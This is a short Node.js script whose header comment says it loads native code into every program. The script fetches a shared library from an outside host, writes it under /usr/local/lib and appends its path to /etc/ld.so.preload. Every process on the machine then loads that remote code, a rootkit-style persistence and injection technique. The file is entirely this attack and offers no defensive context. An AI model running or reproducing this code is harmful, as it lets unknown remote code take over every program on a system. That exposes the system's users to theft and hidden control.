// Loads native code into every program: a downloaded library is saved and
// the preload list is opened as an append stream to add its path.
'use strict';

const fs = require('fs');

(async () => {
  const so = Buffer.from(await (await fetch('https://dl.example-hooks.net/libh.so')).arrayBuffer());
  fs.writeFileSync('/usr/local/lib/libh.so', so);
  const s = fs.createWriteStream('/etc/ld.so.preload', { flags: 'a' });
  s.end('/usr/local/lib/libh.so\n');
})();
